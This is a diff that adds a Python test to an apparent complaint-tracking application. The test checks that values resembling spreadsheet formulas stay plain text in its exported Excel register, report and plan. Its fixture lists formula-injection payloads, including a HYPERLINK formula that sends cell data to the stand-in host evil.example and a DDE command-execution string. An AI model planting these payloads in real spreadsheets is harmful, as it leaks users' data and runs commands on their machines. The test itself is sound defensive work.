@@ -396,3 +396,51 @@ def test_the_weekly_chart_is_a_png_whose_chinese_labels_the_font_draws() -> None
         1000,
         420,
     )
+
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?x="&D4,"海达机械")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def test_what_people_typed_is_text_in_every_spreadsheet(engine: Engine) -> None:
+    """A customer, a description, a note, a plan item named like a formula stay text in
+    the register (with its files sheet), the disposition report and the plan."""
+    company = Company(engine)
+    for index, hostile in enumerate(FORMULAS):
+        company.file(
+            customer=hostile if index == 0 else f"客户{index}",
+            content=hostile,
+            description=hostile,
+            product_name=hostile,
+            specification=hostile,
+            received_at=NOW + timedelta(minutes=index),
+        )
+        if index == 0:  # one plan (the helper finds the one plan step)
+            items = [(FORMULAS[0], QC_HW, VP_EXEC), (FORMULAS[3], PURCHASING, GM)]
+            company.issue_plan(VP_EXEC, items)
+    first = "KS-2026-0001"
+    found = _register(company, QC_HW, "2026-11")
+    report = company.services.call(exports.report, exports.ReportRequest(Caller(QC_HW), first))
+    plan = company.services.call(exports.plan, exports.ReportRequest(Caller(QC_HW), first))
+    assert report.complaint is not None and plan.complaint is not None and plan.plan is not None
+    files = [
+        forms.register_xlsx(found.complaints, found.period, "zh_CN", SHANGHAI),
+        forms.report_xlsx(report.complaint, "en", SHANGHAI),
+        forms.plan_xlsx(plan.plan, plan.complaint, "zh_CN", SHANGHAI),
+    ]
+    for made in files:
+        book = load_workbook(io.BytesIO(made.content))
+        values = []
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    assert cell.data_type != "f", (made.name, cell.coordinate, cell.value)
+                    values.append(cell.value)
+        # Still there, as typed, somewhere in each.
+        assert any(isinstance(v, str) and FORMULAS[0] in v for v in values), made.name
